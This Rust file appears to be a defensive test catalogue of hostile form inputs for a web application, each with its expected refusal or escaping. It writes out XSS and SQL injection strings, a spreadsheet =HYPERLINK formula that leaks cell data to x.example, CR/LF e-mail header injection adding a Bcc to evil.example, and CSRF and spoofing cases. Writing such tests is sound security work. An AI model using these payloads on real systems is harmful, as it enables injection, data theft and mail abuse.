//! The hostile-input catalogue (design/security.md) as data: each `Case` builds a request for a
//! form (`Target`) and says what must happen, or skips a form it does not apply to. Adding an
//! attack is one entry in `cases()`.

use crate::hostile_targets::Target;

/// How a request carries its CSRF token.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Token {
    /// The token of the page the form is on, in the body.
    Valid,
    Missing,
    Forged,
    /// A real token, but of another visitor.
    OtherVisitor,
    /// Taken before logging in; the visitor id (and so the token) changed at login.
    FromBeforeLogin,
    /// Taken while logged in, used after logging out.
    FromBeforeLogout,
    /// The valid token in an `X-CSRF-Token` header (for non-form bodies).
    Header,
}

/// What must happen to a request.
#[derive(Clone, Debug)]
pub enum Expect {
    /// Refused before the form handles it: one of these statuses, a page with a heading that
    /// explains, nothing stored. (413 may also close the connection early.)
    Refused(&'static [u16]),
    /// The form comes back with an error summary, `kept` still in it, nothing stored.
    FormError { kept: String },
    /// Accepted and stored; `shown` appears escaped (never raw) wherever it is displayed.
    Stored { shown: String },
}

#[derive(Clone, Debug)]
pub struct Attack {
    pub method: &'static str,
    /// Instead of the target's action (ids of other processes, ids out of range).
    pub path: Option<String>,
    pub fields: Vec<(String, String)>,
    /// Sent as is instead of `fields` (the token, when wanted, is put in front).
    pub raw_body: Option<Vec<u8>>,
    pub content_type: &'static str,
    pub token: Token,
    pub headers: Vec<(&'static str, &'static str)>,
    pub expect: Expect,
}

impl Attack {
    /// The target's valid submission with some fields replaced (or added).
    pub fn with(target: &Target, changes: &[(&str, String)], expect: Expect) -> Attack {
        let mut fields: Vec<(String, String)> = target
            .valid
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        for (name, value) in changes {
            match fields.iter_mut().find(|(k, _)| k == name) {
                Some(field) => field.1 = value.clone(),
                None => fields.push(((*name).to_owned(), value.clone())),
            }
        }
        Attack {
            method: "POST",
            path: None,
            fields,
            raw_body: None,
            content_type: "application/x-www-form-urlencoded",
            token: Token::Valid,
            headers: Vec::new(),
            expect,
        }
    }

    pub fn valid(target: &Target, expect: Expect) -> Attack {
        Attack::with(target, &[], expect)
    }

    pub fn token(mut self, token: Token) -> Attack {
        self.token = token;
        self
    }

    pub fn raw(mut self, body: Vec<u8>, content_type: &'static str) -> Attack {
        self.raw_body = Some(body);
        self.content_type = content_type;
        self
    }
}

pub struct Case {
    pub name: &'static str,
    pub build: fn(&Target) -> Option<Attack>,
}

const REFUSED_METHOD: &[u16] = &[404, 405];
const REFUSED_CSRF: &[u16] = &[403];
const TOO_LARGE: &[u16] = &[413];
const BAD: &[u16] = &[400];
const NOT_FOUND: &[u16] = &[404];
const WRONG_TYPE: &[u16] = &[400, 403, 415];

/// A free-text payload for the target's first one-line field: stored (and escaped) where the
/// form takes free text, refused and kept where the field is an e-mail address.
fn line_payload(target: &Target, payload: &str, n: usize) -> Option<Attack> {
    if let Some((field, _)) = target.lines.first() {
        let value = format!("{payload} {n}");
        let shown = value.clone();
        return Some(Attack::with(
            target,
            &[(field, value)],
            Expect::Stored { shown },
        ));
    }
    let field = target.email?;
    let kept = payload.to_owned();
    Some(Attack::with(
        target,
        &[(field, kept.clone())],
        Expect::FormError { kept },
    ))
}

/// A payload in the first multi-line field: stored literally, shown escaped.
fn text_payload(target: &Target, payload: &str, n: usize) -> Option<Attack> {
    let (field, _) = target.texts.first()?;
    // The one-line field gets a unique value too, so slugs made from it never collide.
    let mut changes = vec![(*field, payload.to_owned())];
    if let Some((line, _)) = target.lines.first() {
        changes.push((line, format!("Tekst {n}")));
    }
    Some(Attack::with(
        target,
        &changes,
        Expect::Stored {
            shown: payload.to_owned(),
        },
    ))
}

/// A value the target must refuse in its first one-line field (or its e-mail field), keeping it.
fn refused_line(target: &Target, value: String) -> Option<Attack> {
    let field = target.lines.first().map(|(f, _)| *f).or(target.email)?;
    Some(Attack::with(
        target,
        &[(field, value.clone())],
        Expect::FormError { kept: value },
    ))
}

fn refused_email(target: &Target, value: &str) -> Option<Attack> {
    let field = target.email?;
    Some(Attack::with(
        target,
        &[(field, value.to_owned())],
        Expect::FormError {
            kept: value.to_owned(),
        },
    ))
}

fn refused_date(target: &Target, value: &str) -> Option<Attack> {
    let field = target.dates.first()?;
    Some(Attack::with(
        target,
        &[(field, value.to_owned())],
        Expect::FormError {
            kept: value.to_owned(),
        },
    ))
}

fn other_path(target: &Target, id: &str) -> Option<Attack> {
    if !target.action.contains("{process}") {
        return None;
    }
    let mut attack = Attack::valid(target, Expect::Refused(NOT_FOUND));
    attack.path = Some(target.action.replace("{process}", id));
    Some(attack)
}

/// Over 30 attacks from the catalogue; every target gets each one that applies to it.
pub fn cases() -> Vec<Case> {
    vec![
        // Size and encoding (catalogue 1, 4, 5, 36)
        Case {
            name: "10 MB body",
            build: |t| {
                let huge = format!("padding={}", "a".repeat(10 * 1024 * 1024));
                Some(
                    Attack::valid(t, Expect::Refused(TOO_LARGE))
                        .raw(huge.into_bytes(), "application/x-www-form-urlencoded"),
                )
            },
        },
        Case {
            name: "body one byte over the form limit",
            build: |t| {
                let body = format!("padding={}", "a".repeat(256 * 1024));
                Some(
                    Attack::valid(t, Expect::Refused(TOO_LARGE))
                        .raw(body.into_bytes(), "application/x-www-form-urlencoded"),
                )
            },
        },
        Case {
            name: "invalid UTF-8 in a value (%C3%28)",
            build: |t| {
                let field = t.valid.first().map_or("x", |(k, _)| *k);
                Some(Attack::valid(t, Expect::Refused(BAD)).raw(
                    format!("{field}=%C3%28").into_bytes(),
                    "application/x-www-form-urlencoded",
                ))
            },
        },
        Case {
            name: "invalid UTF-8 in a field name (%FF)",
            build: |t| {
                Some(
                    Attack::valid(t, Expect::Refused(BAD))
                        .raw(b"%FF=1".to_vec(), "application/x-www-form-urlencoded"),
                )
            },
        },
        Case {
            name: "raw bytes that are not UTF-8",
            build: |t| {
                Some(
                    Attack::valid(t, Expect::Refused(BAD))
                        .raw(b"x=\xff\xfe".to_vec(), "application/x-www-form-urlencoded"),
                )
            },
        },
        Case {
            name: "NUL byte in a one-line field",
            build: |t| refused_line(t, "voor\0na".into()),
        },
        Case {
            name: "NUL byte in a multi-line field",
            build: |t| {
                let (field, _) = t.texts.first()?;
                Some(Attack::with(
                    t,
                    &[(field, "voor\0na".into())],
                    Expect::FormError {
                        kept: "voor\0na".into(),
                    },
                ))
            },
        },
        // Issue 20, findings 8 and 10: one text rule everywhere.
        Case {
            name: "ESC (terminal colour code) in a one-line field",
            build: |t| refused_line(t, "voor\u{1b}[31mna".into()),
        },
        Case {
            name: "ESC and a right-to-left override in a multi-line field",
            build: |t| {
                let (field, _) = t.texts.first()?;
                let value = "regel\u{1b}[2J\nfactuur\u{202E}fdp.exe".to_owned();
                Some(Attack::with(
                    t,
                    &[(field, value.clone())],
                    Expect::FormError { kept: value },
                ))
            },
        },
        Case {
            name: "only U+3164 (Hangul filler) in a required field",
            build: |t| {
                let field = t.lines.first().map(|(f, _)| *f)?;
                Some(Attack::with(
                    t,
                    &[(field, "\u{3164}".into())],
                    Expect::FormError {
                        kept: String::new(),
                    },
                ))
            },
        },
        Case {
            name: "zero-width space inside a person's name",
            build: |t| {
                // Forms where people give their own name (and address).
                t.email?;
                let (field, _) = t.lines.iter().find(|(f, _)| *f == "name")?;
                let value = "Ja\u{200B}n".to_owned();
                Some(Attack::with(
                    t,
                    &[(field, value.clone())],
                    Expect::FormError { kept: value },
                ))
            },
        },
        Case {
            name: "Cyrillic letter in the local part of an e-mail address",
            build: |t| refused_email(t, "j\u{430}n@gemeente.nl"),
        },
        Case {
            name: "one character over the limit",
            build: |t| {
                let (_, max) = t.lines.first()?;
                refused_line(t, "x".repeat(max + 1))
            },
        },
        Case {
            name: "100 000 characters without a space in a multi-line field",
            build: |t| {
                let (field, max) = t.texts.first()?;
                let long = "x".repeat(100_000.max(max + 1));
                Some(Attack::with(
                    t,
                    &[(field, long.clone())],
                    Expect::FormError { kept: long },
                ))
            },
        },
        Case {
            name: "only spaces in a required field",
            build: |t| {
                let field = t.lines.first().map(|(f, _)| *f).or(t.email)?;
                Some(Attack::with(
                    t,
                    &[(field, "   ".into())],
                    Expect::FormError {
                        kept: String::new(),
                    },
                ))
            },
        },
        // Markup and scripts (6, 7, 8, 31)
        Case {
            name: "<script> in a one-line field",
            build: |t| line_payload(t, "<script>alert(1)</script>", 1),
        },
        Case {
            name: "attribute break-out \"><svg onload=…> in a one-line field",
            build: |t| line_payload(t, "\"><svg onload=alert(1)>", 2),
        },
        Case {
            name: "<img onerror> in a multi-line field",
            build: |t| {
                text_payload(
                    t,
                    "<img src=x onerror=alert(1)>\n\n<iframe src=javascript:alert(2)>",
                    5,
                )
            },
        },
        Case {
            name: "javascript: URL as the slug",
            build: |t| {
                let field = t.slug?;
                Some(Attack::with(
                    t,
                    &[(field, "javascript:alert(1)".into())],
                    Expect::FormError {
                        kept: "javascript:alert(1)".into(),
                    },
                ))
            },
        },
        Case {
            name: "SQL in a one-line field",
            build: |t| line_payload(t, "' OR 1=1 --", 3),
        },
        // CSV formulas (9, 10): stored literally; exports neutralise them
        Case {
            name: "CSV formula =HYPERLINK in a one-line field",
            build: |t| line_payload(t, "=HYPERLINK(\"http://x.example?\"&A1)", 4),
        },
        Case {
            name: "CSV formula +, -, @ and tab in a multi-line field",
            build: |t| text_payload(t, "+1+1\n-2+3\n@SUM(A1)\n\t=1,\"a\"", 6),
        },
        // Header injection and lookalikes (13, 14)
        Case {
            name: "CR/LF header injection in a one-line field",
            build: |t| refused_line(t, "Jan\r\nBcc: x@evil.example".into()),
        },
        Case {
            name: "CR/LF header injection in an e-mail address",
            build: |t| refused_email(t, "a@example.nl\r\nBcc: x@evil.example"),
        },
        Case {
            name: "display-name e-mail \"x\"@evil <a@b>",
            build: |t| refused_email(t, "\"x\"@evil.example <a@example.nl>"),
        },
        Case {
            name: "e-mail address over 254 characters",
            build: |t| refused_email(t, &format!("{}@example.nl", "a".repeat(250))),
        },
        Case {
            name: "homoglyph e-mail (Cyrillic а)",
            build: |t| refused_email(t, "org@exаmple.nl"),
        },
        Case {
            name: "right-to-left override in a one-line field",
            build: |t| refused_line(t, "factuur\u{202E}fdp.exe".into()),
        },
        Case {
            name: "emoji and combining accents are ordinary text",
            build: |t| {
                let (field, _) = t.lines.first()?;
                Some(Attack::with(
                    t,
                    &[(field, "Cafe\u{301} 🇳🇱 overleg".into())],
                    Expect::Stored {
                        // Stored in NFC (issue 20): the accent composed onto the e.
                        shown: "Caf\u{e9} 🇳🇱 overleg".into(),
                    },
                ))
            },
        },
        // Numbers, dates, options and ids (27, 29, 34)
        Case {
            name: "impossible date 2026-02-30",
            build: |t| refused_date(t, "2026-02-30"),
        },
        Case {
            name: "year out of range 275760-09-14",
            build: |t| refused_date(t, "275760-09-14"),
        },
        Case {
            name: "number-like junk 1e309 as a date",
            build: |t| refused_date(t, "1e309"),
        },
        Case {
            name: "unknown option value",
            build: |t| {
                let field = t.choice?;
                Some(Attack::with(
                    t,
                    &[(field, "deleted".into())],
                    Expect::Refused(BAD),
                ))
            },
        },
        Case {
            name: "empty option value",
            build: |t| {
                let field = t.choice?;
                Some(Attack::with(
                    t,
                    &[(field, String::new())],
                    Expect::Refused(BAD),
                ))
            },
        },
        Case {
            name: "id of another process's item",
            build: |t| {
                let mut attack = Attack::valid(t, Expect::Refused(NOT_FOUND));
                attack.path = Some(t.foreign_action?.to_owned());
                Some(attack)
            },
        },
        Case {
            name: "process id 2^63 (overflow)",
            build: |t| other_path(t, "9223372036854775808"),
        },
        Case {
            name: "process id -1",
            build: |t| other_path(t, "-1"),
        },
        Case {
            name: "process id 1e309",
            build: |t| other_path(t, "1e309"),
        },
        Case {
            name: "a field twice",
            build: |t| {
                let (name, value) = t.valid.first()?;
                let mut attack = Attack::valid(t, Expect::Refused(BAD));
                attack
                    .fields
                    .push(((*name).to_owned(), (*value).to_owned()));
                Some(attack)
            },
        },
        // CSRF (21, 22, 23)
        Case {
            name: "no CSRF token",
            build: |t| Some(Attack::valid(t, Expect::Refused(REFUSED_CSRF)).token(Token::Missing)),
        },
        Case {
            name: "forged CSRF token",
            build: |t| Some(Attack::valid(t, Expect::Refused(REFUSED_CSRF)).token(Token::Forged)),
        },
        Case {
            name: "another visitor's CSRF token",
            build: |t| {
                Some(Attack::valid(t, Expect::Refused(REFUSED_CSRF)).token(Token::OtherVisitor))
            },
        },
        Case {
            name: "CSRF token replayed from before login",
            build: |t| {
                Some(Attack::valid(t, Expect::Refused(REFUSED_CSRF)).token(Token::FromBeforeLogin))
            },
        },
        Case {
            name: "CSRF token replayed after logout",
            build: |t| {
                Some(Attack::valid(t, Expect::Refused(REFUSED_CSRF)).token(Token::FromBeforeLogout))
            },
        },
        Case {
            name: "valid token from a foreign Origin",
            build: |t| {
                let mut attack = Attack::valid(t, Expect::Refused(REFUSED_CSRF));
                attack.headers.push(("Origin", "https://evil.example"));
                Some(attack)
            },
        },
        Case {
            name: "valid token with Sec-Fetch-Site: cross-site",
            build: |t| {
                let mut attack = Attack::valid(t, Expect::Refused(REFUSED_CSRF));
                attack.headers.push(("Sec-Fetch-Site", "cross-site"));
                Some(attack)
            },
        },
        // Methods and content types
        Case {
            name: "PUT instead of POST",
            build: |t| {
                let mut a = Attack::valid(t, Expect::Refused(REFUSED_METHOD));
                a.method = "PUT";
                Some(a)
            },
        },
        Case {
            name: "DELETE instead of POST",
            build: |t| {
                let mut a = Attack::valid(t, Expect::Refused(REFUSED_METHOD));
                a.method = "DELETE";
                Some(a)
            },
        },
        // A button without fields (delete) reads no body, so its content type does not matter;
        // the header token is how scripts may post, and a cross-site page cannot set it.
        Case {
            name: "JSON body with the token in a header",
            build: |t| {
                t.valid.first()?;
                Some(
                    Attack::valid(t, Expect::Refused(WRONG_TYPE))
                        .raw(b"{\"title\":\"x\"}".to_vec(), "application/json")
                        .token(Token::Header),
                )
            },
        },
        Case {
            name: "multipart body",
            build: |t| {
                t.valid.first()?;
                let body =
                    b"--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--b--\r\n"
                        .to_vec();
                Some(
                    Attack::valid(t, Expect::Refused(WRONG_TYPE))
                        .raw(body, "multipart/form-data; boundary=b")
                        .token(Token::Header),
                )
            },
        },
        Case {
            name: "form fields sent as text/plain",
            build: |t| {
                t.valid.first()?;
                Some(
                    Attack::valid(t, Expect::Refused(WRONG_TYPE))
                        .raw(b"x=1".to_vec(), "text/plain")
                        .token(Token::Header),
                )
            },
        },
    ]
}
